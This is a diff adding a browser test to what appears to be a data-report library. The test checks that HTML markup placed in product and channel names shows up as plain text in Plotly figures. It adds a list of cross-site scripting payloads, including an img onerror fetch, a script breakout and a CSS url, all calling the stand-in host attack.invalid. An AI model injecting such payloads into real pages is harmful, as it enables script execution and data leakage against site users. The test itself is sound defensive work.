@@ -108,6 +108,41 @@ def test_what_would_leave_the_page_or_run_in_it_is_stopped(page, hostile):
     assert len([said for said in page.console if "Content Security Policy" in said]) >= 3
 
 
+#: What Plotly would take for markup of its own in a label.
+ATTACKS = [
+    "<img src=x onerror=\"fetch('http://attack.invalid/img')\">",
+    '<span style="background:url(https://attack.invalid/style)">',
+    "<a href='https://attack.invalid/link'>click</a>",
+    "</script><script>fetch('https://attack.invalid/script')</script>",
+    "<b>bold</b>",
+]
+
+
+def test_markup_in_names_of_products_and_channels_is_text_in_figures(page, tmp_path):
+    rows = [
+        (
+            f"{ATTACKS[c % 5]} {c}",
+            f"2024-{k % 12 + 1:02}-{c % 28 + 1:02}",
+            3.0 + c % 7,
+            ATTACKS[(c + k) % 5],
+            ATTACKS[c % 5],
+        )
+        for c in range(120)
+        for k in range(c % 8 + 1)
+    ]
+    names = ["client", "day", "paid", "item", "channel"]
+    bought = pl.DataFrame(rows, schema=names, orient="row")
+    lk.report.build(bought, dimensions=["channel"], **ROLES).save(tmp_path / "page.html")
+    page.open(tmp_path / "page.html")
+    page.open_all()
+    reaches_out = (
+        "['href', 'xlink:href', 'src', 'style'].some(name => one.getAttribute(name)?.includes('attack.invalid'))"
+    )
+    assert page.run(f"[...document.querySelectorAll('main *')].filter(one => {reaches_out}).length") == 0
+    assert page.console == []
+    assert outside(page) == []
+
+
 SETTINGS = 1000
 
 
